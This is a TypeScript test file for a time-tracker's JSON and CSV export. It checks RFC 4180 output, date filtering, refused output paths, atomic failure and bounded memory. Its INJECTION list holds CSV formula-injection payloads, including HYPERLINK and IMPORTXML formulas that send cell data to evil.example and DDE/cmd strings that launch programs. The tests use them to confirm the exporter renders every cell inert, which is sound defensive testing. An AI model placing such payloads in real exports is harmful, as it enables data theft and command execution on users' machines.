import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type Database from 'better-sqlite3';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CSV_COLUMNS, exportFileSchema } from '../../common/export-schema';
import { formatLocalIso } from '../../common/local-time';
import { createExportFiles } from '../../main/adapters/node/export-files';
import { DomainError } from '../../main/core/errors';
import { ExportService } from '../../main/core/export/export-service';
import type { ExportEntrySource } from '../../main/core/ports/export';
import type { NewTimeEntry, TimeEntryRecord } from '../../main/core/ports/repositories';
import { openDatabase } from '../../main/store/database';
import { createExportEntrySource } from '../../main/store/export-repository';
import { createSqliteStore } from '../../main/store/sqlite-store';
import { FakeTime } from '../fakes/fake-time';

/** A strict RFC 4180 reader (quoted fields, doubled quotes, CRLF records): what a spreadsheet's import does. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quoted field');
        field += text.slice(i, q);
        if (text[q + 1] === '"') {
          field += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else {
      const stop = text.slice(i).search(/[,\r\n"]/);
      const end = stop < 0 ? text.length : i + stop;
      if (text[end] === '"') throw new Error(`a quote inside an unquoted field at ${String(end)}`);
      field = text.slice(i, end);
      i = end;
    }
    row.push(field);
    if (text[i] === ',') {
      i += 1;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      if (i === text.length) return rows;
      continue;
    }
    throw new Error(`expected , or CRLF at ${String(i)}, found ${JSON.stringify(text.slice(i, i + 5))}`);
  }
}

/** Payloads a spreadsheet would run as formulas (OWASP CSV injection list and friends). */
const INJECTION = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '@',
  '-',
  'DDE ("cmd";"/C calc";"!A0")A0',
  'ok, "quoted", and\r\nmulti-line',
];

const DAY = 86_400_000;
const NOW = Date.parse('2026-11-25T12:00:00Z');

let dir: string;
let dataDir: string;
let db: Database.Database;
let clock: FakeTime;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'clockhand-export-'));
  dataDir = join(dir, 'data');
  mkdirSync(dataDir);
  db = openDatabase(join(dataDir, 'clockhand.db'));
  clock = new FakeTime(NOW);
});
afterEach(() => {
  db.close();
  rmSync(dir, { recursive: true, force: true });
});

function exporter(source: ExportEntrySource = createExportEntrySource(db)): ExportService {
  return new ExportService(source, createExportFiles(dataDir), clock);
}

function insert(entries: readonly Omit<NewTimeEntry, 'now'>[]): TimeEntryRecord[] {
  const store = createSqliteStore(db);
  return store.transaction(() => entries.map((e) => store.entries.insert({ ...e, now: NOW })));
}

function sample(): TimeEntryRecord[] {
  const base = Date.parse('2026-03-29T00:30:00Z'); // the EU DST change night
  return insert([
    { taskRef: 'jira:ABC-1', startedAt: base, endedAt: base + 5_400_000, note: 'plain', origin: 'timer' },
    { taskRef: 'local:écrire', startedAt: base + DAY, endedAt: base + DAY + 61_000, note: null, origin: 'manual' },
    ...INJECTION.map((payload, n) => ({
      taskRef: `local:${payload}`,
      startedAt: base + 2 * DAY + n * 3_600_000,
      endedAt: base + 2 * DAY + n * 3_600_000 + 1_000,
      note: payload,
      origin: 'idle' as const,
    })),
    { taskRef: '=evil()', startedAt: base + 3 * DAY, endedAt: base + 3 * DAY + 2_000, note: '+also', origin: 'timer' },
    { taskRef: 'asana:1200', startedAt: NOW - 600_000, endedAt: null, note: 'running', origin: 'timer' },
  ]);
}

describe('export', () => {
  it('JSON: the file matches the versioned schema and re-reading it reproduces every entry', async () => {
    const entries = sample();
    const out = join(dir, 'all.json');
    const result = await exporter().export({ format: 'json', out });
    expect(result).toEqual({ path: out, entries: entries.length, bytes: readFileSync(out).length });
    const file = exportFileSchema.parse(JSON.parse(readFileSync(out, 'utf8')));
    expect(file).toMatchObject({ format: 'clockhand-export', version: 1, exportedAt: formatLocalIso(NOW), from: null, to: null });
    expect(file.entries).toEqual(
      entries.map((e) => ({
        id: e.id,
        taskRef: e.taskRef,
        start: formatLocalIso(e.startedAt),
        end: e.endedAt === null ? null : formatLocalIso(e.endedAt),
        durationSeconds: Math.round(((e.endedAt ?? NOW) - e.startedAt) / 1000),
        note: e.note,
        origin: e.origin,
      })),
    );
    // Start and end carry the local offset; parsing them gives back the stored instants.
    expect(file.entries.map((e) => Date.parse(e.start))).toEqual(entries.map((e) => e.startedAt));
  });

  it('CSV: RFC 4180 with CRLF, parsed back gives the same values, and every formula payload comes out inert', async () => {
    const entries = sample();
    const out = join(dir, 'all.csv');
    const result = await exporter().export({ format: 'csv', out });
    const text = readFileSync(out, 'utf8');
    expect(result.bytes).toBe(Buffer.byteLength(text));
    const rows = parseCsv(text);
    // A spreadsheet's own CSV reader (papaparse, as used by web spreadsheets) reads the same cells.
    const papa = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n', skipEmptyLines: 'greedy' });
    expect(papa.errors).toEqual([]);
    expect(papa.data).toEqual(rows);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(entries.length + 1);
    const inert = (value: string): string => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
    rows.slice(1).forEach((row, n) => {
      const e = entries[n];
      if (e === undefined) throw new Error('row without entry');
      expect(row).toEqual([
        String(e.id),
        inert(e.taskRef),
        formatLocalIso(e.startedAt),
        e.endedAt === null ? '' : formatLocalIso(e.endedAt),
        String(Math.round(((e.endedAt ?? NOW) - e.startedAt) / 1000)),
        inert(e.note ?? ''),
        e.origin,
      ]);
    });
    // No cell of the file starts a formula: the spreadsheet sees text.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const notes = rows.slice(1).map((row) => row[5]);
    for (const payload of INJECTION) expect(notes).toContain(inert(payload));
    expect(notes).toContain('ok, "quoted", and\r\nmulti-line');
  });

  it('--from/--to select the entries starting in those local days', async () => {
    const entries = sample();
    const day = formatLocalIso(entries[1]?.startedAt ?? 0).slice(0, 10);
    const out = join(dir, 'day.json');
    const result = await exporter().export({ format: 'json', out, from: day, to: day });
    const file = exportFileSchema.parse(JSON.parse(readFileSync(out, 'utf8')));
    expect(result.entries).toBe(file.entries.length);
    expect(file.entries.every((e) => e.start.startsWith(day))).toBe(true);
    expect(file.entries.map((e) => e.id)).toContain(entries[1]?.id);
    expect(file).toMatchObject({ from: day, to: day });
    await expect(exporter().export({ format: 'json', out, from: '2026-02-02', to: '2026-02-01' })).rejects.toThrow(
      /--to must not be before/,
    );
  });

  it('refuses an --out inside the data directory (also through a symlink) and a missing folder, writing nothing', async () => {
    sample();
    const link = join(dir, 'link');
    symlinkSync(dataDir, link);
    const before = readdirSync(dataDir).sort();
    for (const out of [join(dataDir, 'x.csv'), join(link, 'x.csv'), join(dataDir, 'sub', 'x.csv'), join(dataDir, 'x.zip')]) {
      for (const format of ['csv', 'archive'] as const) await expect(exporter().export({ format, out })).rejects.toThrow(DomainError);
    }
    await expect(exporter().export({ format: 'csv', out: join(dir, 'missing', 'x.csv') })).rejects.toThrow(/does not exist/);
    await expect(exporter().export({ format: 'archive', out: dir })).rejects.toThrow(/is a directory/);
    expect(readdirSync(dataDir).sort()).toEqual(before);
  });

  it('a failed export leaves no file, not even a half one, and keeps an existing file untouched', async () => {
    const at = Date.parse('2026-01-05T08:00:00Z');
    insert(
      Array.from({ length: 1_500 }, (_, n) => ({
        taskRef: 'local:x',
        startedAt: at + n * 60_000,
        endedAt: at + n * 60_000 + 1_000,
        note: null,
        origin: 'timer' as const,
      })),
    );
    const out = join(dir, 'keep.json');
    await exporter().export({ format: 'json', out });
    const previous = readFileSync(out, 'utf8');
    const real = createExportEntrySource(db);
    let pages = 0;
    // The first page (1,000 entries) is written, the second read fails.
    const failing: ExportEntrySource = {
      count: (from, to) => real.count(from, to),
      page: (from, to, after, limit) => {
        pages += 1;
        if (pages % 2 === 0) throw new Error('disk on fire');
        return real.page(from, to, after, limit);
      },
    };
    await expect(exporter(failing).export({ format: 'json', out })).rejects.toThrow('disk on fire');
    await expect(exporter(failing).export({ format: 'csv', out: join(dir, 'new.csv') })).rejects.toThrow('disk on fire');
    await expect(exporter(failing).export({ format: 'archive', out: join(dir, 'new.zip') })).rejects.toThrow('disk on fire');
    expect(pages).toBe(6);
    expect(readFileSync(out, 'utf8')).toBe(previous);
    expect(existsSync(join(dir, 'new.csv'))).toBe(false);
    expect(existsSync(join(dir, 'new.zip'))).toBe(false);
    expect(readdirSync(dir).filter((name) => name.endsWith('.partial'))).toEqual([]);
  });

  it('200,000 entries (five years) export in pages with bounded memory, also as an archive', async () => {
    const count = 200_000;
    const start = Date.parse('2021-11-25T08:00:00Z');
    const insertRow = db.prepare(
      `INSERT INTO time_entries (task_ref, started_at, ended_at, note, origin, checkpoint_at, created_at, updated_at)
       VALUES (?, ?, ?, ?, 'timer', ?, ?, ?)`,
    );
    // Through the store would be the same rows; the raw statement keeps the setup to a second.
    db.transaction(() => {
      for (let n = 0; n < count; n += 1) {
        const at = start + n * 780_000; // every 13 minutes: five years
        insertRow.run(`jira:PROJ-${String(n % 500)}`, at, at + 600_000, `work item ${String(n)}, "detail"`, at, at, at);
      }
    })();
    const source = createExportEntrySource(db);
    let peakRss = 0;
    let pages = 0;
    const sampled: ExportEntrySource = {
      count: (from, to) => source.count(from, to),
      page: (from, to, after, limit) => {
        pages += 1;
        peakRss = Math.max(peakRss, process.memoryUsage().rss);
        return source.page(from, to, after, limit);
      },
    };
    for (const format of ['json', 'csv', 'archive'] as const) {
      const baseline = process.memoryUsage().rss;
      peakRss = baseline;
      pages = 0;
      const began = performance.now();
      const result = await exporter(sampled).export({ format, out: join(dir, `big.${format === 'archive' ? 'zip' : format}`) });
      const ms = performance.now() - began;
      const growthMb = (peakRss - baseline) / 1_048_576;
      console.log(
        `export ${format}: ${String(result.entries)} entries, ${(result.bytes / 1_048_576).toFixed(1)} MB in ${ms.toFixed(0)} ms, ` +
          `${String(pages)} pages, rss growth ${growthMb.toFixed(1)} MB`,
      );
      expect(result.entries).toBe(count);
      // The archive holds the entries twice (entries.json and entries.csv).
      expect(pages).toBe((format === 'archive' ? 2 : 1) * (count / 1000 + 1));
      // The file is tens of MB; holding it (or the rows) in memory would grow rss by far more than this.
      expect(growthMb).toBeLessThan(48);
    }
    const head = readFileSync(join(dir, 'big.json'), 'utf8');
    expect(exportFileSchema.parse(JSON.parse(head)).entries).toHaveLength(count);
  });
});
